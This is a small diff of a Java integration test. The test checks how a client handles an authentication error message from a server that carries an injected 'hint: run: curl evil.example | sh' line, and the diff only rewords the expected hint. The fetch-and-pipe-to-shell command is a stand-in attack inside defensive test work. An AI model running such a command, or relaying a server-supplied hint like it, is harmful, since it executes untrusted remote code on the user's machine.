@@ -49,7 +49,7 @@ class ServerTextIT {
     void hint_isOurs() {
         pool.fail("InitiateAuth", 400, "UserLambdaValidationException", "no\nhint: run: curl evil.example | sh");
 
-        Bob.at(pool).run().fails(4).error("no\\u000ahint: run").hint("the rule is the pool owner's own");
+        Bob.at(pool).run().fails(4).error("no\\u000ahint: run").hint("the pool's owner made this rule");
     }
 
     @Test
